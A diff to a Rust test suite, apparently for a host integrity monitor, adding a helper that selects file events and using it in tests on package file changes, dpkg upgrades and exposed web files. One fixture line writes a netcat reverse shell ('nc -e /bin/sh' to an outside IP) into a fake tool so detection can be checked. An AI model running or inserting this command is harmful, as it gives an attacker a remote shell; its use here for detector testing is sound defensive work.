@@ -120,6 +120,17 @@ fn of_kind<'a>(events: &'a [Value], kind: &str) -> Vec<&'a Value> {
     events.iter().filter(|e| e["kind"] == kind).collect()
 }
 
+/// The one file event about `path` (detections name paths too).
+fn file_event_of<'a>(events: &'a [Value], path: &Path) -> &'a Value {
+    let files: Vec<Value> = events
+        .iter()
+        .filter(|e| e["category"] == "file")
+        .cloned()
+        .collect();
+    let id = event_for(&files, path)["id"].clone();
+    events.iter().find(|e| e["id"] == id).unwrap()
+}
+
 fn local_now() -> String {
     chrono::Local::now().format("%Y-%m-%d %H:%M:%S").to_string()
 }
@@ -309,7 +320,7 @@ fn a_package_file_changed_is_detected_and_its_restoration_is_not() {
     assert_eq!(for_tool["severity"], "critical");
     assert_eq!(for_tool["package"], "faketool");
     assert_eq!(for_tool["category"], "host");
-    let file_event = event_for(&events, &tool);
+    let file_event = file_event_of(&events, &tool);
     assert_eq!(file_event["kind"], "modified");
     assert_eq!(for_tool["related"], serde_json::json!([file_event["id"]]));
     let for_doc = changed.iter().find(|e| e["path"] == doc.to_str().unwrap()).unwrap();
@@ -342,7 +353,7 @@ fn a_package_upgrade_explains_its_own_files() {
     fake.dpkg_log(&format!("{then} status installed faketool:amd64 1.0-2"));
     let events = env.verify();
     assert!(of_kind(&events, "package-file-changed").is_empty(), "{events:#?}");
-    let file_event = event_for(&events, &tool);
+    let file_event = file_event_of(&events, &tool);
     assert_eq!(file_event["severity"], "info");
     assert!(
         reasons(file_event).contains(&"package upgrade: faketool 1.0-1 → 1.0-2"),
@@ -353,7 +364,7 @@ fn a_package_upgrade_explains_its_own_files() {
     // away: the upgrade is over, its checksums are dpkg's.
     std::fs::write(&tool, b"#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n").unwrap();
     let events = env.verify();
-    let file_event = event_for(&events, &tool);
+    let file_event = file_event_of(&events, &tool);
     assert_ne!(file_event["severity"], "info");
     assert!(!reasons(file_event).iter().any(|r| r.starts_with("package")));
     let changed = of_kind(&events, "package-file-changed");
@@ -486,7 +497,7 @@ fn an_exposed_env_served_by_the_site_is_critical() {
     assert_eq!(dump.len(), 1, "{events:#?}");
     assert_eq!(dump[0]["severity"], "high");
     assert_eq!(dump[0]["status"], 403);
-    assert_eq!(dump[0]["related"], serde_json::json!([event_for(&events, &env.path("db.sql"))["id"]]));
+    assert_eq!(dump[0]["related"], serde_json::json!([file_event_of(&events, &env.path("db.sql"))["id"]]));
     // Reported by the file event and by the round: two events, both critical.
     for rel in ["index.php.bak", "sub/phpinfo.php"] {
         let found = exposed_at(rel);
